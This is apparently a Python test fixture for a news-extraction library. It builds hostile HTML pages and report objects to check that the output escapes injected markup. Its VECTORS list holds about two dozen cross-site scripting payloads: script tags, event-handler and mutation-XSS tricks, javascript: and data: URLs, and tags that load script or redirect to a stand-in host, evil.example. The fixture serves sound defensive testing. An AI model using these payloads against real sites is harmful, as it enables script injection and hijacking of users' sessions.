"""What a page would write that wants to run in the report, in every place that comes out there."""

from __future__ import annotations

from accounts import block, explanation
from cleannews import Label
from cleannews.explanation import Candidate, ExplainedField, Explanation, Reason, Step
from cleannews.model.block import Notice
from cleannews.model.body import Code, Embed, Heading, Image, List, ListItem, Paragraph, Span
from cleannews.model.labels import Kind, Role
from cleannews.model.metadata import Author

VECTORS = [
    "<script>window.ran = 1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror='window.ran = 1'>",
    "<svg/onload=window.ran=1><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<details open ontoggle=window.ran=1><summary>x</summary></details>",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "<iframe src='javascript:parent.ran=1'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.ran=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<template><script>window.ran = 1</script></template>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css'</style>",
    "<base href=https://evil.example/><form action=https://evil.example/><button autofocus onfocus=window.ran=1>",
    "</title></style></script></textarea></summary></details></section><script>window.ran = 1</script>",
    "--><script>window.ran = 1</script><!--",
    "' onmouseover=window.ran=1 x='",
    '" autofocus onfocus="window.ran=1" tabindex="0" x="',
    "` onclick=window.ran=1 `",
    "&#60;script&#62;window.ran = 1&#60;/script&#62;",
    "\u2028<scr\x00ipt>window.ran = 1</script>",
    "javascript:window.ran=1",
    "java\tscript:window.ran=1//https://x.example",
    "data:text/html,<script>opener.ran=1</script>",
    "vbscript:window.ran=1",
]


def hostile_page() -> str:
    """A page of these vectors, all of them in places that come out in the report."""
    text = "Members of the board argued for four hours about the cost of the quay, and found no majority for it. "
    paragraphs = [f"<p>{text} {vector} {text}</p>" for vector in VECTORS]
    links = [
        f'<p>{text} <a href="{vector.replace(chr(34), "&quot;")}">a link of the page</a>.</p>' for vector in VECTORS
    ]
    escaped = [vector.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;") for vector in VECTORS]
    images = [
        f'<figure><img src="/{vector}.jpg" alt="{vector}" width=800 height=600><figcaption>{vector}</figcaption></figure>'
        for vector in escaped
    ]
    boxes = [f'<div class="share {vector}" id="{vector}"><a href="{vector}">{vector}</a></div>' for vector in escaped]
    return (
        f'<html lang="en"><head><title>{escaped[0]}</title><meta property="og:title" content="{escaped[2]}">'
        f'<meta name="author" content="{escaped[3]}"><link rel="canonical" href="{escaped[-4]}"></head><body><article>'
        f"<h1>{escaped[2]}</h1>{''.join(paragraphs + links + images + boxes)}</article></body></html>"
    )


def hostile_account() -> Explanation:
    """The same in every field there is, whether a page could bring it there or not."""
    blocks, fields = [], []
    for at, vector in enumerate(VECTORS):
        steps = (Step(vector, None, Label.OTHER, vector, 0.5),)
        reasons = (Reason(vector, vector, 1.0),)
        kind = Kind.IMAGE if at % 3 == 0 else Kind.TEXT
        what = Role.PARAGRAPH if at % 2 else Label.OTHER
        blocks.append(block(at, vector, what, steps=steps, reasons=reasons, xpath=vector, kind=kind, probability=0.5))
        fields.append(ExplainedField(vector, vector, vector, (Candidate(vector, vector, True),) * 2))
    body = [
        part
        for vector in VECTORS
        for part in (
            Paragraph(vector, (Span(0, 9, "link", vector),)),
            Heading(vector),
            List((ListItem(vector),)),
            Code(vector, vector),
            Embed(vector, "frame", vector),
            Image(vector, alt=vector, caption=vector, credit=vector),
        )
    ]
    return explanation(
        blocks,
        fields,
        [(vector, 0.1) for vector in VECTORS],
        headline=" ".join(VECTORS[:6]),
        outcome_reason=" ".join(VECTORS),
        url=VECTORS[-4],
        language=VECTORS[16],
        authors=tuple(Author(vector, vector) for vector in VECTORS),
        notices=tuple(Notice(vector, vector) for vector in VECTORS),
        body=tuple(body),
    )
